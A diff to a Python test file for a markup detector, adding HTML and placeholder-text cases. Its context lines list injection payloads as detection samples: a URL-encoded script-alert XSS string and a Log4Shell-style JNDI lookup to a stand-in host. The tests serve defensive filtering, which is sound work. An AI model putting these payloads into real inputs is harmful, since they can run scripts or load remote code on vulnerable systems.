@@ -460,6 +460,9 @@ def test_messages_with_a_link_or_two_in_real_text_are_not_link_stuffed(message: 
         "&#x3C;script",
         "%3Cscript%3Ealert(1)%3C%2Fscript%3E",  # %-escaped
         "${jndi:ldap://evil.example/a}",
+        "<b>cheap</b> pills",
+        "<font color=red>WIN</font>",
+        "<user-card data-id=1>",  # a custom element
     ],
 )
 def test_markup_is_detected(text: str) -> None:
@@ -485,6 +488,10 @@ def test_markup_is_detected(text: str) -> None:
         "scripting: python",
         "https://acme.com/landing?utm_source=x%20y&a=b",
         "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0",
+        # Placeholders and made-up tags are no element a browser renders or runs.
+        "Dear <name>, please quote <number of seats> seats",
+        "copy the API key into <config>/settings.yml",
+        "<Note> we already use your product </Note>",
         None,
     ],
 )
